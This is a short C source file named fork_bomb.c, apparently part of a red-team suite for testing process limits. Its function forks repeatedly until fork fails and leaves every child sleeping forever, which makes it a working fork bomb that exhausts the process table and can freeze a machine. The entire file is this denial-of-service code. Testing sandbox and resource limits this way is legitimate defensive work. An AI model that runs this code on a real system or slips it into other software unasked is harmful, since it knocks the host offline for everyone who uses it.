/* fork_bomb.c - fork until fork fails; every child sleeps for ever. */
#define _GNU_SOURCE
#include <stdio.h>
#include <sys/prctl.h>
#include <unistd.h>

static void attack(void)
{
    long forks = 0;
    for (;;) {
        pid_t pid = fork();
        if (pid == -1)
            break;
        if (pid == 0) {
            prctl(PR_SET_NAME, REDTEAM_NAME);
            for (;;)
                pause();
        }
        forks++;
    }
    printf("redteam: %ld forks before fork failed\n", forks);
    fflush(stdout);
}
